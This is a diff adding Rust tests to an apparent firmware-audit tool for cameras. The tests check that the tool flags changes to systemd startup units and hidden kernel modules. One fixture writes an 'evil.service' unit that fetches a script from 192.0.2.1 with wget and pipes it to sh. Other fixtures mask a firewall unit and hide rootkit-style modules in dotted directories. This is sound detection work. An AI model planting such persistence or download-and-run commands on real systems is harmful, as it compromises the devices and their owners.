@@ -333,6 +333,111 @@ fn whatever_the_system_starts_is_told() {
 }
 
 #[test]
+fn units_of_systemd_are_among_what_starts() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
+    camera.write(
+        "lib/systemd/system/own.service",
+        "[Service]\nExecStart=/usr/bin/own\n",
+    );
+    camera.audit(&["--accept"]);
+    let report = camera.report();
+    assert_eq!(
+        verdict(&report, "start.drift"),
+        "pass",
+        "{}",
+        rule(&report, "start.drift")
+    );
+    // One that was there is started now; one is new; one is told more by a file beside it.
+    let wants = camera.path("etc/systemd/system/multi-user.target.wants");
+    fs::create_dir_all(&wants).unwrap();
+    symlink("/lib/systemd/system/own.service", wants.join("own.service")).unwrap();
+    symlink("/dev/null", camera.path("etc/systemd/system/firewall.service")).unwrap();
+    camera.write(
+        "etc/systemd/system/evil.service",
+        "[Service]\nExecStartPre=-/bin/sh -c 'wget -qO- http://192.0.2.1/x | sh'\nExecStart=+/tmp/.x/run\n",
+    );
+    camera.write(
+        "etc/systemd/system/own.service.d/more.conf",
+        "[Service]\n# ExecStart=/tmp/not\nEnvironment=X=/tmp/not\n",
+    );
+    let report = camera.report();
+    let told = |id: &str| {
+        assert_eq!(verdict(&report, id), "fail", "{}", rule(&report, id));
+        evidence(&report, id)
+    };
+    for path in [
+        "/etc/systemd/system/multi-user.target.wants/own.service",
+        "/etc/systemd/system/firewall.service",
+        "/etc/systemd/system/evil.service",
+        "/etc/systemd/system/own.service.d/more.conf",
+    ] {
+        let drift = told("start.drift");
+        assert!(drift.contains(&format!("start {path} ")), "{path}: {drift}");
+    }
+    let download = told("start.download");
+    for what in [
+        "/etc/systemd/system/evil.service:2",
+        "fetches and runs",
+        "runs `/tmp/.x/run`",
+    ] {
+        assert!(download.contains(what), "{what}: {download}");
+    }
+    assert!(!download.contains("/tmp/not"), "{download}");
+    // Everybody may write to /dev/null.
+    let modes = evidence(&report, "start.writable");
+    assert!(!modes.contains("firewall.service"), "{modes}");
+    camera.audit(&["--accept"]);
+    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
+    // What a link leads to counts, too.
+    camera.write(
+        "lib/systemd/system/own.service",
+        "[Service]\nExecStart=/usr/bin/other\n",
+    );
+    let report = camera.report();
+    assert!(evidence(&report, "start.drift").contains("wants/own.service"));
+}
+
+#[test]
+fn modules_that_lie_where_firmwares_keep_none_are_told() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    let verdict_of = || {
+        let report = camera.report();
+        (
+            verdict(&report, "trace.module").to_owned(),
+            evidence(&report, "trace.module"),
+        )
+    };
+    camera.write("proc/modules", "own 1 0 - Live 0\n");
+    camera.write("lib/modules/6.12.1/own.ko", "x");
+    assert_eq!(verdict_of().0, "pass", "{}", verdict_of().1);
+    for path in ["etc/.x/kit.ko", "var/lib/kit.ko.xz", "root/own.ko"] {
+        camera.write(path, "x");
+        let (verdict, why) = verdict_of();
+        assert_eq!(verdict, "unknown", "{path}: {why}");
+        assert!(why.contains(&format!("/{path}")), "{why}");
+        fs::remove_file(camera.path(path)).unwrap();
+    }
+    camera.write("etc/.x/my-kit.ko", "x");
+    camera.write("proc/modules", "own 1 0 - Live 0\nmy_kit 1 0 - Live 0\n");
+    let (verdict, why) = verdict_of();
+    assert_eq!(verdict, "fail", "{why}");
+    assert!(
+        why.contains("/etc/.x/my-kit.ko") && why.contains("my_kit is loaded"),
+        "{why}"
+    );
+    // In places that are empty after a restart it is a trace, whatever it is packed with.
+    camera.write("run/kit.ko.gz", "x");
+    assert_eq!(super::verdict(&camera.report(), "trace.file"), "fail");
+}
+
+#[test]
 fn keys_among_many_files_of_such_names_are_not_passed_over() {
     if without_root() {
         return;
